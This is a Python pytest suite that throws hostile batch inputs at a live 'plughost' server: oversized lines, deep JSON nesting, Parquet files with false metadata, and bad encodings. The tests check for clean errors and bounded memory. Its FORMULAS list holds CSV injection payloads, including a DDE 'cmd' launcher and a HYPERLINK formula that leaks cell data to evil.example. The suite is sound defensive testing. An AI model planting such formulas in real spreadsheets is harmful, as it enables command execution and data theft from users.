"""Hostile batch inputs against a live strict-mode server (issue 28, "Batch inputs").

Each input gives a plain error (a refused submission, or a failed job whose message names the
problem) and the server's memory stays bounded while it reads it:

- one JSONL line of 200 MB (the reported case) and of 1 GB: refused by
  ``PLUGHOST_BATCH_MAX_LINE_BYTES`` without the line ever being held whole; the server's peak
  resident memory (``VmHWM``, reset through ``/proc/<pid>/clear_refs`` before the upload) may
  grow by at most :data:`MAX_GROWTH` (the unbounded reader grew it by ~10x the line);
- JSON nested 100,000 and 200 levels deep: refused by ``PLUGHOST_BATCH_MAX_JSON_DEPTH``;
- Parquet whose footer claims more rows than its row groups hold: refused from the metadata;
- CSV cells holding spreadsheet formulas: kept as data, byte for byte, in the output;
- Latin-1 bytes, invalid UTF-8 sequences, a UTF-16 file: an error naming the line or offset.
"""

from __future__ import annotations

import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "e2e"))

from batch_input_support import lying_parquet
from batch_support import batch_plugin_files, download, submit, upload, wait_batch
from sec_servers import server_env
from support import LiveServer, unique_name

from plughost.batch.reader_limits import DEFAULT_MAX_DEPTH, DEFAULT_MAX_LINE_BYTES

NS = "ns_default"
MIB = 1 << 20
# Peak resident growth allowed while the server takes and reads one hostile input. The bounded
# reader holds at most one line (PLUGHOST_BATCH_MAX_LINE_BYTES, 16 MiB) and its parsed copies;
# 300 MB leaves room for allocator noise and a job's bookkeeping, and is under the bound the
# brief suggests for the 200 MB line (size / 2 + 300 MB). The unbounded reader grew by ~2 GB.
MAX_GROWTH = 300 * MIB
JOB_TIMEOUT_S = 600.0


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    home = tmp_path_factory.mktemp("batch-inputs")
    live = LiveServer(home=home, extra_env={**server_env(False), "PLUGHOST_BATCH_CHUNK_ROWS": "16"})
    live.start()
    live.key = (home / "admin-key").read_text().strip()
    try:
        yield live
    finally:
        live.stop()


@pytest.fixture(scope="module")
def plugin(server: LiveServer) -> str:
    """The steps plugin (adds ``length`` of ``text``), after one job has run: the server has
    loaded pandas and pyarrow before any memory is measured."""
    name = unique_name("inputs")
    plugin_id = upload(server, batch_plugin_files(name, batch_size=4), name)
    r = submit(server, plugin_id, b'{"text": "warm up"}\n', "warm.jsonl")
    assert r.status_code == 202, r.text
    assert wait_batch(server, r.json()["status_endpoint"], JOB_TIMEOUT_S)["status"] == "completed"
    return plugin_id


# -- memory of the server process ------------------------------------------------------------
def _status_kib(pid: int, field: str) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    raise AssertionError(f"no {field} in /proc/{pid}/status")


def _reset_peak(pid: int) -> int:
    """Reset the process's peak resident size (``VmHWM``) to its current one; that size."""
    Path(f"/proc/{pid}/clear_refs").write_text("5")
    return _status_kib(pid, "VmRSS") * 1024


def _peak(pid: int) -> int:
    return _status_kib(pid, "VmHWM") * 1024


# -- inputs ----------------------------------------------------------------------------------
def _one_line_file(path: Path, size: int) -> Path:
    """A JSONL file of one record whose text is ``size`` bytes, written in 1 MiB pieces."""
    piece = b"a" * MIB
    with path.open("wb") as out:
        out.write(b'{"text": "')
        for _ in range(size // MIB):
            out.write(piece)
        out.write(b'"}\n')
    return path


def _file_body(path: Path) -> Iterator[bytes]:
    with path.open("rb") as src:
        while block := src.read(MIB):
            yield block


def _submit_by_upload(server: LiveServer, plugin_id: str, path: Path) -> httpx.Response:
    """Put ``path`` through a presigned upload (streamed), then submit it by its input_url."""
    with server.client() as c:
        up = c.post(f"/v1/namespaces/{NS}/batches/uploads", json={"file_name": path.name})
        assert up.status_code == 200, up.text
        put = httpx.put(up.json()["presigned_url"], content=_file_body(path), timeout=JOB_TIMEOUT_S)
        assert put.status_code == 200, put.text
        return c.post(
            f"/v1/namespaces/{NS}/plugins/{plugin_id}/batches",
            json={"input_url": up.json()["input_url"]},
        )


def _failed_job(server: LiveServer, r: httpx.Response) -> dict[str, Any]:
    assert r.status_code == 202, r.text
    body = wait_batch(server, r.json()["status_endpoint"], JOB_TIMEOUT_S)
    assert body["status"] == "failed", body
    assert "Traceback" not in str(body["message"]) and "internal error" not in body["message"]
    return body


def _healthy(server: LiveServer) -> bool:
    return httpx.get(f"{server.url}/healthz", timeout=30).status_code == 200


# -- 1. one long line ------------------------------------------------------------------------
@pytest.mark.parametrize(
    "size",
    [
        pytest.param(200 * MIB, id="200mb"),
        pytest.param(1024 * MIB, id="1gb", marks=pytest.mark.slow),
    ],
)
def test_a_line_past_the_limit_fails_the_job_with_bounded_memory(
    server: LiveServer, plugin: str, tmp_path: Path, size: int
) -> None:
    path = _one_line_file(tmp_path / "one-line.jsonl", size)
    assert server.proc is not None
    pid = server.proc.pid
    try:
        before = _reset_peak(pid)
        r = _submit_by_upload(server, plugin, path)
        assert r.status_code == 202, r.text
        body = wait_batch(server, r.json()["status_endpoint"], JOB_TIMEOUT_S)
        growth = _peak(pid) - before
    finally:
        path.unlink(missing_ok=True)
    print(f"server peak RSS growth: {growth / MIB:.0f} MiB")  # shown with -s or on failure
    assert growth < MAX_GROWTH, f"server peak RSS grew by {growth / MIB:.0f} MiB: {body}"
    assert body["status"] == "failed", body
    message = body["message"]
    assert "JSONL line 1" in message and "longer than" in message, body
    assert str(DEFAULT_MAX_LINE_BYTES) in message and "PLUGHOST_BATCH_MAX_LINE_BYTES" in message
    assert _healthy(server)


# -- 2. deep nesting -------------------------------------------------------------------------
@pytest.mark.parametrize("depth", [100, 100_000], ids=["100", "100000"])
def test_deeply_nested_json_fails_the_job_naming_the_line(
    server: LiveServer, plugin: str, depth: int
) -> None:
    deep = "[" * depth + "]" * depth
    content = f'{{"text": "a"}}\n{{"text": "b", "deep": {deep}}}\n'.encode()
    body = _failed_job(server, submit(server, plugin, content, "deep.jsonl"))
    assert body["message"].startswith(
        f"JSONL line 2: JSON nested deeper than {DEFAULT_MAX_DEPTH} levels"
    ), body
    assert "PLUGHOST_BATCH_MAX_JSON_DEPTH" in body["message"]
    assert _healthy(server)


# -- 3. Parquet footers that lie -------------------------------------------------------------
def test_a_parquet_footer_claiming_billions_of_rows_is_refused(
    server: LiveServer, plugin: str, tmp_path: Path
) -> None:
    path = lying_parquet(tmp_path / "lie.parquet", 777, 4_000_000_000)
    body = _failed_job(server, submit(server, plugin, path.read_bytes(), "lie.parquet"))
    assert "4000000000 rows" in body["message"], body
    assert "PLUGHOST_BATCH_MAX_INPUT_ROWS" in body["message"]
    assert body["rows_done"] == 0


def test_a_parquet_footer_claiming_more_rows_than_its_data_fails_the_job(
    server: LiveServer, plugin: str, tmp_path: Path
) -> None:
    path = lying_parquet(tmp_path / "lie.parquet", 777, 5000)
    body = _failed_job(server, submit(server, plugin, path.read_bytes(), "lie.parquet"))
    assert "declares 5000 rows, its data holds 777" in body["message"], body


def test_a_parquet_row_group_of_one_giant_page_is_refused_with_bounded_memory(
    server: LiveServer, plugin: str, tmp_path: Path
) -> None:
    """One row group, one 160 MB page (pyarrow cuts pages every 1024 rows: 1000 rows of
    160 KB): refused from its page header, before the reader would hold the page."""
    path = tmp_path / "giant.parquet"
    writer = pq.ParquetWriter(path, pa.schema([("text", pa.string())]), compression="none")
    try:
        writer.write_table(pa.table({"text": [f"{i:06d}" * 26_000 for i in range(1000)]}))
    finally:
        writer.close()
    assert pq.ParquetFile(path).metadata.num_row_groups == 1
    assert server.proc is not None
    try:
        before = _reset_peak(server.proc.pid)
        body = _failed_job(server, _submit_by_upload(server, plugin, path))
        growth = _peak(server.proc.pid) - before
    finally:
        path.unlink(missing_ok=True)
    assert "PLUGHOST_BATCH_MAX_PARQUET_PAGE_BYTES" in body["message"], body
    assert body["message"].startswith("Parquet row group 0 column 'text': a page at byte")
    print(f"server peak RSS growth: {growth / MIB:.0f} MiB")
    assert growth < MAX_GROWTH, f"server peak RSS grew by {growth / MIB:.0f} MiB"


# -- 4. CSV formulas are data ----------------------------------------------------------------
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "'=quoted",
]


def test_csv_formula_cells_reach_the_output_byte_for_byte(
    server: LiveServer, plugin: str, tmp_path: Path
) -> None:
    def cell(text: str) -> str:
        return '"' + text.replace('"', '""') + '"'

    content = "text,note\n" + "".join(f"{cell(t)},{cell(t)}\n" for t in FORMULAS)
    r = submit(server, plugin, content.encode(), "formulas.csv")
    assert r.status_code == 202, r.text
    body = wait_batch(server, r.json()["status_endpoint"], JOB_TIMEOUT_S)
    assert body["status"] == "completed", body
    out = pd.read_parquet(download(body["output_url"], tmp_path / "out.parquet"))
    assert list(out["text"]) == FORMULAS
    assert list(out["note"]) == FORMULAS
    assert list(out["length"]) == [len(t) for t in FORMULAS]  # the plugin saw the same text


# -- 5. encodings ----------------------------------------------------------------------------
def _padding(rows: int) -> bytes:
    """``rows`` plain JSONL rows: what follows lies past the server's 4 KiB format sniff."""
    return b"".join(b'{"text": "padding row %d"}\n' % i for i in range(rows))


def test_latin1_in_the_head_is_refused_at_submit_naming_line_and_byte(
    server: LiveServer, plugin: str
) -> None:
    r = submit(server, plugin, b'{"text": "ok"}\n{"text": "caf\xe9"}\n', "latin.jsonl")
    assert 400 <= r.status_code < 500, r.text
    assert "not UTF-8 text (line 2, byte 28)" in r.text, r.text


@pytest.mark.parametrize(
    ("name", "tail", "expected"),
    [
        ("latin.jsonl", b'{"text": "caf\xe9"}\n', "JSONL line 201: not UTF-8 text (byte 0xe9"),
        ("broken.jsonl", b'{"text": "x\xc3\x28"}\n', "JSONL line 201: not UTF-8 text (byte 0xc3"),
        ("latin.csv", b'"caf\xe9",1\n', "CSV line 402: not UTF-8 text (byte 0xe9"),
    ],
    ids=["latin1-jsonl", "invalid-sequence-jsonl", "latin1-csv"],
)
def test_non_utf8_past_the_head_fails_the_job_naming_the_line(
    server: LiveServer, plugin: str, name: str, tail: bytes, expected: str
) -> None:
    if name.endswith(".csv"):
        content = b"text,n\n" + b"".join(b"row %d,%d\n" % (i, i) for i in range(400)) + tail
    else:
        content = _padding(200) + tail
    assert len(content) > 4096
    body = _failed_job(server, submit(server, plugin, content, name))
    assert body["message"].startswith(expected), body
    assert "of the file)" in body["message"]


@pytest.mark.parametrize("bom", [b"\xff\xfe", b"\xfe\xff"], ids=["utf16-le", "utf16-be"])
def test_a_utf16_file_is_refused_at_submit(server: LiveServer, plugin: str, bom: bytes) -> None:
    encoding = "utf-16-le" if bom == b"\xff\xfe" else "utf-16-be"
    r = submit(server, plugin, bom + '{"text": "x"}\n'.encode(encoding), "wide.jsonl")
    assert 400 <= r.status_code < 500, r.text
    assert "UTF-16" in r.text, r.text
